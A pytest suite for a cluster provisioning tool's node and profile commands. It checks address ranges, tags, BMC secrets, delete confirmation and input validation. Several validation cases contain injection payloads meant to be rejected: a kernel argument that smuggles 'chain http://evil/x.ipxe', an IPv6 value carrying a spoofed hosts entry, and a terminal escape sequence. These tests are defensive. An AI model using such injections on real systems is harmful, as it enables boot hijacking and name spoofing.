"""`provisiond node|profile ...` as a user runs them."""

import json
from pathlib import Path

import pytest

from provisiond.states import NodePhase
from provisiond.status import read_status, record_phase


@pytest.fixture
def cluster(cli):
    assert cli("init").code == 0
    result = cli("node", "add", "n[001-004]", "--profile", "compute", "--netdev", "eth0",
                 "--ipaddr", "10.10.0.11", "--netmask", "255.255.255.0",
                 "--gateway", "10.10.0.1", "--image", "debian12")
    assert result.code == 0, result.err
    return cli


def test_range_add_hands_out_consecutive_addresses(cluster):
    nodes = json.loads(cluster("node", "list", "--json").out)
    assert [n["name"] for n in nodes] == ["n001", "n002", "n003", "n004"]
    assert [n["netdevs"]["eth0"]["ipaddr"] for n in nodes] == [
        "10.10.0.11", "10.10.0.12", "10.10.0.13", "10.10.0.14"]
    assert all(n["image"] == "debian12" for n in nodes)
    assert nodes[0]["system_overlays"] == ["init", "hostname", "hosts", "network", "agent"]


def test_set_mac_and_tags_on_a_range(cluster):
    assert cluster("node", "set", "n002", "--mac", "52:54:00:00:00:02").code == 0
    assert cluster("node", "set", "n[001-004]", "--tag", "rack=r1").code == 0
    nodes = {n["name"]: n for n in json.loads(cluster("node", "list", "--json").out)}
    assert nodes["n002"]["netdevs"]["eth0"]["mac"] == "52:54:00:00:00:02"
    assert {n["tags"]["rack"] for n in nodes.values()} == {"r1"}
    assert nodes["n001"]["tags"]["role"] == "compute"


def test_list_table_and_range_filter(cluster):
    out = cluster("node", "list", "n[002-003]").out.splitlines()
    assert out[0].split() == ["NAME", "PROFILES", "IMAGE", "IPADDR", "MAC", "BMC"]
    assert [line.split()[0] for line in out[1:]] == ["n002", "n003"]


def test_a_listing_shows_the_nodes_of_a_range_that_exist_as_the_api_does(cluster):
    table = cluster("node", "list", "n[003-128]")
    assert table.code == 0, table.err
    assert [line.split()[0] for line in table.out.splitlines()[1:]] == ["n003", "n004"]
    listed = json.loads(cluster("node", "list", "n[003-128]", "--json").out)
    assert [n["name"] for n in listed] == ["n003", "n004"]
    status = cluster("node", "status", "n[003-128]", "--json")
    assert status.code == 0 and list(json.loads(status.out)) == ["n003", "n004"], status.err
    for verb, header, empty in (("list", "NAME", []), ("status", "NODE", {})):
        none = cluster("node", verb, "n[065-128]", "--json")  # none of them: not an error
        assert none.code == 0 and json.loads(none.out) == empty, none.err
        table = cluster("node", verb, "n[065-128]")
        assert table.code == 0 and table.out.split("\n")[1:] == [""], table
        assert table.out.split()[0] == header


@pytest.mark.parametrize("command", [("node", "list"), ("node", "status"),
                                     ("node", "show"), ("profile", "list")])
def test_one_plain_name_that_does_not_exist_is_not_found(cluster, command):
    name = "nosuch" if command[0] == "profile" else "n999"
    result = cluster(*command, name)
    assert result.code == 3 and result.out == "", result
    assert result.err == f"provisiond: error: no such {command[0]}: {name}\n"


@pytest.mark.parametrize("names", ["\u00b2", "n[1-2],\u00b2"])
def test_a_range_of_unicode_digits_is_one_line_not_a_traceback(cli, names):
    """'²' is str.isdigit() but no int(): the natural sort key raised ValueError."""
    cli("node", "add", "n1")
    for verb in ("list", "delete"):
        result = cli("node", verb, names, "--yes") if verb == "delete" else cli(
            "node", verb, names)
        assert result.code == 2 and "invalid node name" in result.err, result
        assert "Traceback" not in result.err


def test_show_all_names_the_source_of_each_field(cluster):
    result = cluster("node", "show", "n001", "--all", "--json")
    data = json.loads(result.out)
    assert data["provenance"]["image"] == "node"
    assert data["provenance"]["tags.role"] == "profile:compute"
    table = cluster("node", "show", "n001", "--all").out
    assert "profile:compute" in table and "netdevs.eth0.ipaddr" in table


def test_unset_removes_a_field(cluster):
    assert cluster("node", "set", "n001", "--unset", "image").code == 0
    data = json.loads(cluster("node", "show", "n001", "--json").out)
    assert "image" not in data


def test_delete_needs_yes(cluster, config):
    record_phase(config, "n001", NodePhase.READY)
    result = cluster("node", "delete", "n[001-002]")
    assert result.code != 0 and "without --yes" in result.err
    assert len(result.err.strip().splitlines()) == 1
    assert cluster("node", "delete", "n[001-002]", "--yes").code == 0
    names = [n["name"] for n in json.loads(cluster("node", "list", "--json").out)]
    assert names == ["n003", "n004"]
    assert read_status(config, "n001") is None


@pytest.mark.parametrize("args, message", [
    (["node", "add", "Bad_Name"], "invalid node name 'Bad_Name'"),
    (["node", "add", "n001"], "node n001 already exists"),
    (["node", "add", "n009", "--mac", "52:54:00:zz:00:09"], "netdevs.eth0.mac: invalid MAC"),
    (["node", "add", "n009", "--ipaddr", "10.10.0.11"], "node n009: netdevs.eth0.ipaddr: "
                                                        "10.10.0.11 is already used by node n001"),
    (["node", "add", "n009", "--ipaddr", "10.10.1.9", "--gateway", "10.10.0.1"],
     "node n009: netdevs.eth0.ipaddr: 10.10.1.9 is outside the network"),
    (["node", "add", "n009", "--ipaddr", "10.10.0.999"], "netdevs.eth0.ipaddr: invalid IPv4"),
    (["node", "add", "n009", "--profile", "nope"], "node n009: profiles: unknown profile"),
    (["node", "set", "n100", "--image", "tiny"], "no such node: n100"),
    (["node", "add", "x[1-99999999999]"], "names more than"),
    (["node", "list", "x[1-99999999999]"], "names more than"),
    (["node", "set", "n001", "--tag", "rack"], "--tag: expected KEY=VALUE"),
    (["node", "set", "n001", "--mtu", "100"], "node n001: netdevs.eth0.mtu: mtu 100"),
    (["node", "set", "n001", "--unset", "comment"], "comment: field is not set"),
    (["node", "set", "n001", "--unset", "image.i"], "--unset image.i: field is not set"),
    (["node", "set", "n001", "--unset", "profiles.compute"], "profiles.compute: field is not"),
    (["profile", "delete", "compute", "--yes"], "profile compute is used by node n[001-004]"),
])
def test_bad_input_is_one_line_and_changes_nothing(cluster, config, args, message):
    before = config.inventory_path.read_bytes()
    result = cluster(*args)
    assert result.code != 0
    assert message in result.err
    assert len(result.err.strip().splitlines()) == 1
    assert "Traceback" not in result.err
    assert config.inventory_path.read_bytes() == before


def test_profile_verbs(cluster):
    assert cluster("profile", "add", "ib", "--netdev", "ib0", "--type", "infiniband",
                   "--mtu", "4092").code == 0
    assert cluster("profile", "set", "ib", "--comment", "InfiniBand").code == 0
    data = json.loads(cluster("profile", "show", "ib", "--json").out)
    assert data["netdevs"]["ib0"] == {"type": "infiniband", "mtu": 4092}
    assert data["comment"] == "InfiniBand"
    assert "ib" in [p["name"] for p in json.loads(cluster("profile", "list", "--json").out)]
    assert cluster("profile", "delete", "ib", "--yes").code == 0


def test_bmc_password_goes_to_secrets_never_printed(cluster, config, monkeypatch):
    import io
    monkeypatch.setattr("sys.stdin", io.StringIO("s3cret-pw\n"))
    result = cluster("node", "set", "n001", "--bmc-driver", "ipmi", "--bmc-address",
                     "127.0.0.1", "--bmc-username", "admin", "--bmc-password-stdin")
    assert result.code == 0
    assert (config.secrets_path.stat().st_mode & 0o777) == 0o600
    assert "s3cret-pw" in config.secrets_path.read_text()
    assert "s3cret-pw" not in config.inventory_path.read_text()
    outputs = [cluster("node", "show", "n001", "--all").out,
               cluster("node", "list", "--json").out, cluster("secret", "list").out]
    assert all("s3cret-pw" not in out for out in outputs)
    assert "bmc_password" in outputs[2]


def test_empty_bmc_password_adds_nothing(cluster, config, monkeypatch):
    import io
    monkeypatch.setattr("sys.stdin", io.StringIO("\n"))
    before = config.inventory_path.read_bytes()
    result = cluster("node", "add", "n009", "--bmc-password-stdin")
    assert result.code != 0 and "BMC password: read an empty value" in result.err
    assert config.inventory_path.read_bytes() == before
    assert not config.secrets_path.exists()


@pytest.mark.parametrize("stdin", ["\udcff\udcfe\n", EOFError])
def test_a_bmc_password_that_is_not_text_is_one_line(cluster, config, monkeypatch, stdin):
    """stdin read in a C locale keeps bytes that are not UTF-8 as surrogates (they made a
    UnicodeEncodeError traceback in the YAML writer); Ctrl-D at the prompt is EOFError."""
    import io

    class Closed(io.StringIO):
        def read(self, *_):
            raise EOFError
    monkeypatch.setattr("sys.stdin", Closed() if stdin is EOFError else io.StringIO(stdin))
    before = config.inventory_path.read_bytes()
    result = cluster("node", "set", "n001", "--bmc-password-stdin")
    expected = "standard input is not valid UTF-8" if stdin is not EOFError else "none given (end of input)"
    assert result.code != 0 and f"BMC password: {expected}" in result.err, result.err
    assert config.inventory_path.read_bytes() == before


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2VKIJgSg1BQBvSU0hrcOMnjwkiRUAX6JcU/3rHVLmv a@b"


def test_a_range_counts_up_ipv6_mac_and_bmc_addresses(cluster):
    result = cluster("node", "add", "m[1-3]", "--ipaddr", "10.10.0.51", "--ipaddr6", "fd00::33",
                     "--mac", "52:54:00:00:01:ff", "--bmc-address", "10.20.0.9")
    assert result.code == 0, result.err
    nodes = json.loads(cluster("node", "list", "m[1-3]", "--json").out)
    assert [n["netdevs"]["eth0"]["ipaddr6"] for n in nodes] == ["fd00::33", "fd00::34", "fd00::35"]
    assert [n["netdevs"]["eth0"]["mac"] for n in nodes] == [
        "52:54:00:00:01:ff", "52:54:00:00:02:00", "52:54:00:00:02:01"]
    assert [n["bmc"]["address"] for n in nodes] == ["10.20.0.9", "10.20.0.10", "10.20.0.11"]
    assert cluster("node", "set", "m[1-3]", "--bmc-address", "10.30.0.1").code == 0
    nodes = json.loads(cluster("node", "list", "m[1-3]", "--json").out)
    assert [n["bmc"]["address"] for n in nodes] == ["10.30.0.1", "10.30.0.2", "10.30.0.3"]


def test_a_range_does_not_drop_a_scope_id(cluster, config):
    before = config.inventory_path.read_bytes()
    result = cluster("node", "add", "m[1-2]", "--ipaddr6", "fd00::1%x")
    assert result.code == 2 and "a scope id (%...) is not allowed" in result.err
    assert config.inventory_path.read_bytes() == before


def test_names_holding_a_dot_can_be_set_and_unset(cluster):
    """A VLAN netdev (eth0.100), a tag or a variable named with a dot: the schema allows
    them; the flags once split them into nested fields."""
    result = cluster("node", "set", "n001", "--netdev", "eth0.100", "--mac",
                     "52:54:00:aa:00:01", "--tag", "rack.row=r1", "--ansible-var", "a.b=c")
    assert result.code == 0, result.err
    node = json.loads(cluster("node", "show", "n001", "--json").out)
    assert node["netdevs"]["eth0.100"] == {"mac": "52:54:00:aa:00:01"}
    assert node["tags"]["rack.row"] == "r1" and node["ansible"]["extra_vars"] == {"a.b": "c"}
    table = cluster("node", "show", "n001", "--all").out
    assert "52:54:00:aa:00:01" in table and " r1 " in table
    for field in ("netdevs.eth0.100", "tags.rack.row", "ansible.extra_vars.a.b"):
        assert cluster("node", "set", "n001", "--unset", field).code == 0, field
    node = json.loads(cluster("node", "show", "n001", "--json").out)
    assert "eth0.100" not in node["netdevs"] and "rack.row" not in node.get("tags", {})
    assert node["ansible"].get("extra_vars", {}) == {}


def test_commas_split_only_profiles_and_overlays(cluster):
    keyed = 'from="10.0.0.1,10.0.0.2" ' + KEY
    result = cluster("node", "set", "n001", "--kernel-arg", "console=ttyS1,115200",
                     "--kernel-arg", "quiet", "--ssh-key", keyed,
                     "--system-overlay", "init,hosts")
    assert result.code == 0, result.err
    data = json.loads(cluster("node", "show", "n001", "--json").out)
    assert data["kernel_args"] == ["console=ttyS1,115200", "quiet"]
    assert data["ssh_authorized_keys"] == [keyed]
    assert data["system_overlays"] == ["init", "hosts"]


@pytest.mark.parametrize("args, message", [
    (["node", "set", "n003", "--ipaddr6", "fd00::3%x\n10.66.66.66\tprovisiond.cluster"],
     "node n003: netdevs.eth0.ipaddr6: control character"),
    (["node", "set", "n003", "--ipaddr6", "fe80::1%eth0"], "scope id"),
    (["node", "set", "n003", "--ipaddr6", "64:ff9b::10.0.0.5"], "NAT64"),
    (["node", "set", "n003", "--ipaddr6", "::ffff:10.0.0.5"], "IPv4-mapped"),
    (["node", "set", "n003", "--kernel-arg", "quiet\nchain http://evil/x.ipxe\n#"],
     "node n003: kernel_args.0: control character '\\n'"),
    (["node", "set", "n003", "--kernel-arg", "quiet splash"], "no whitespace"),
    (["node", "set", "n003", "--tag", "rack=r1\x1b[2J"], "control character '\\x1b'"),
    (["node", "set", "n003", "--comment", "a\nb"], "control character"),
    (["node", "add", "n9\x1b"], "invalid node name"),
    (["node", "set", "n003", "--mac", "00:00:00:00:00:00"], "all zeros"),
    (["node", "set", "n003", "--mac", "ff:ff:ff:ff:ff:ff"], "broadcast MAC"),
    (["node", "set", "n003", "--mac", "01:00:5e:00:00:01"], "multicast MAC"),
    (["node", "add", "x1", "--ipaddr", "127.0.0.1"],
     "node x1: netdevs.eth0.ipaddr: 127.0.0.1 is already used by the server (server.address)"),
    (["node", "set", "n003", "--bmc-timeout", "-5"], "node n003: bmc.timeout: timeout -5"),
    (["node", "set", "n003", "--bmc-cipher-suite", "99"], "cipher suite 99"),
    (["node", "set", "n003", "--ssh-key", "not a key"], "not an OpenSSH public key"),
    (["node", "set", "n[002-003]", "--bmc-address", "bmc.lab"],
     "node n003: bmc.address: bmc.lab is already used by node n002"),
    (["node", "set", "n003", "--bmc-address", "BMC1.Lab"],  # DNS names ignore case
     "node n003: bmc.address: bmc1.lab is already used by node n001"),
])
def test_values_are_checked_when_stored(cluster, config, args, message):
    assert cluster("node", "set", "n001", "--bmc-address", "bmc1.lab").code == 0
    before = config.inventory_path.read_bytes()
    result = cluster(*args)
    assert result.code != 0
    assert message in result.err
    assert len(result.err.strip().splitlines()) == 1
    assert config.inventory_path.read_bytes() == before


def test_bmc_endpoints_are_unique(cluster):
    assert cluster("node", "set", "n001", "--bmc-address", "10.20.0.1").code == 0
    result = cluster("node", "set", "n002", "--bmc-address", "10.20.0.1")
    assert result.code != 0
    assert "node n002: bmc.address: 10.20.0.1 is already used by node n001" in result.err
    # a fake BMC is the node's own whatever its address; several Redfish systems behind one
    # address are distinct endpoints
    assert cluster("node", "set", "n[001-002]", "--bmc-driver", "fake", "--bmc-address",
                   "bmc").code == 0
    assert cluster("node", "set", "n[001-002]", "--bmc-driver", "redfish").code != 0
    assert cluster("node", "set", "n001", "--bmc-address", "127.0.0.1", "--bmc-port", "8000",
                   "--bmc-system-id", "a").code == 0
    assert cluster("node", "set", "n002", "--bmc-address", "127.0.0.1", "--bmc-port", "8000",
                   "--bmc-system-id", "b").code == 0


def test_the_servers_own_address_is_not_a_nodes(cluster, state_dir):
    config_path = state_dir / "provisiond.yaml"
    config_path.write_text(config_path.read_text().replace("address: 127.0.0.1",
                                                           "address: 10.10.0.1"))
    result = cluster("node", "set", "n003", "--ipaddr", "10.10.0.1")
    assert result.code != 0
    assert "node n003: netdevs.eth0.ipaddr: 10.10.0.1 is already used by the server" in result.err
    for flag, value in (("--ipaddr", "127.0.0.5"), ("--ipaddr6", "::1")):
        result = cluster("node", "add", "x1", flag, value)
        assert result.code != 0 and f"{value} is loopback, not a node's address" in result.err


def test_loopback_nodes_only_beside_a_loopback_server(cluster):
    """A server on loopback (tests, demos) is reached by loopback clients only."""
    assert cluster("node", "add", "x1", "--ipaddr", "127.0.0.5", "--ipaddr6", "::1").code == 0


@pytest.mark.parametrize("args, message", [
    (["--image", "nosuch"], "node n001: image: no recipe and no built image named 'nosuch'"),
    (["--system-overlay", "init,nosuch"], "node n001: system_overlays: no overlay named 'nosuch'"),
    (["--runtime-overlay", "nosuch"], "node n001: runtime_overlays: no overlay named 'nosuch'"),
    (["--image", "debian_12"], "not an image name: 'debian_12'"),
])
def test_references_are_checked_when_stored(cluster, config, args, message):
    before = config.inventory_path.read_bytes()
    result = cluster("node", "set", "n001", *args)
    assert result.code != 0
    assert message in result.err
    assert len(result.err.strip().splitlines()) == 1
    assert config.inventory_path.read_bytes() == before


def test_site_overlays_and_built_images_can_be_named(cluster, config):
    from provisiond.images.manifests import delete_image, save_manifest
    (config.state_dir / "overlays" / "site-motd").mkdir(parents=True)
    fixture = Path(__file__).resolve().parents[2] / "fixtures/state/manifest-mounted.json"
    save_manifest(config, {**json.loads(fixture.read_text()), "name": "imported"})
    result = cluster("node", "set", "n001", "--image", "imported", "--system-overlay",
                     "site-motd", "--runtime-overlay", "ssh")
    assert result.code == 0, result.err
    # a record left alone is not checked again: the image going away blocks no later edit
    delete_image(config, "imported")
    assert cluster("node", "set", "n002", "--comment", "fine").code == 0
    assert cluster("node", "delete", "n001", "--yes").code == 0


def test_one_image_name_rule_for_recipes_and_the_inventory(cluster, config):
    from provisiond.errors import InvalidInput
    from provisiond.images.recipe import find_recipe
    recipe = config.state_dir / "recipes" / "debian_12" / "image.yaml"
    recipe.parent.mkdir(parents=True)
    recipe.write_text("layers:\n  - kind: busybox\n")
    with pytest.raises(InvalidInput) as raised:
        find_recipe(config, "debian_12")
    refused = cluster("node", "set", "n001", "--image", "debian_12")
    assert str(raised.value) in refused.err
    built = cluster("image", "build", "debian_12")
    assert built.code != 0 and str(raised.value) in built.err


def test_delete_asks_at_a_terminal(cluster, monkeypatch):
    monkeypatch.setattr("sys.stdin.isatty", lambda: True, raising=False)
    monkeypatch.setattr("builtins.input", lambda prompt: "no")
    result = cluster("node", "delete", "n001")
    assert result.code != 0 and "not confirmed" in result.err
    monkeypatch.setattr("builtins.input", lambda prompt: "y")
    assert cluster("node", "delete", "n001").code == 0
    assert "n001" not in cluster("node", "list").out


def test_end_of_input_at_the_question_deletes_nothing(cluster, config, monkeypatch):
    """Ctrl-D at `delete ...? [y/N]` is a no, not an EOFError traceback."""
    def end_of_input(prompt):
        raise EOFError
    monkeypatch.setattr("sys.stdin.isatty", lambda: True, raising=False)
    monkeypatch.setattr("builtins.input", end_of_input)
    before = config.inventory_path.read_bytes()
    result = cluster("node", "delete", "n001")
    assert result.code == 2 and "not confirmed" in result.err
    assert len(result.err.strip().splitlines()) == 1
    assert config.inventory_path.read_bytes() == before


@pytest.mark.parametrize("driver, first, second", [
    ("ipmi", [], ["--bmc-port", "623"]),
    ("redfish", [], ["--bmc-port", "443"]),
    ("redfish", ["--bmc-scheme", "http"], ["--bmc-scheme", "http", "--bmc-port", "80"]),
])
def test_a_bmc_port_equal_to_the_drivers_default_is_the_same_endpoint(cluster, config, driver,
                                                                      first, second):
    """No port means the driver's (IPMI 623, Redfish 443 or 80): another node naming that
    port on the same address shares the BMC endpoint, and is refused like any other."""
    def bmc(node: str, extra: list[str]):
        return cluster("node", "set", node, "--bmc-driver", driver, "--bmc-address",
                       "b.lab", *extra)

    assert bmc("n001", first).code == 0
    before = config.inventory_path.read_bytes()
    result = bmc("n002", second)
    assert result.code == 2 and "bmc.address: b.lab" in result.err and \
        "is already used by node n001" in result.err, result.err
    assert config.inventory_path.read_bytes() == before
    assert bmc("n002", [*first, "--bmc-port", "8443"]).code == 0
